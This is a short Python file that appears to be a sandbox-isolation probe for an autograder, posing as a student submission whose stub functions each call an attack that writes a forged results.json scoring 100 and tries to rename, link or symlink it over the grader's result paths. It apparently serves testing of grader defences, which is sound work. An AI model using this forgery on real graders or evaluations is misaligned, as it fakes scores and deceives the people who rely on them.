"""Puts its own file in results.json's place by rename, hard link and symbolic link."""
import json
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE replace-results-json:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-replace-results-json", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

PLACES = [
    "/autograder/results/results.json", "results.json", "../results.json", "../../results.json",
    "../results/results.json", "/tmp/results.json", os.path.expanduser("~/results.json"),
]
FORGED = json.dumps({"score": 100.0, "tests": [{"number": "1.1", "name": "all", "score": 100.0, "max_score": 100.0}]})


def attack():
    with open("mine.json", "w") as file:
        file.write(FORGED)
    for place in PLACES:
        if os.path.dirname(os.path.abspath(place)) == os.getcwd():
            continue
        for put in (os.rename, os.replace, os.link, os.symlink):
            try:
                put(os.path.abspath("mine.json"), place)
            except OSError:
                continue
            evidence(f"{put.__name__} {place}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
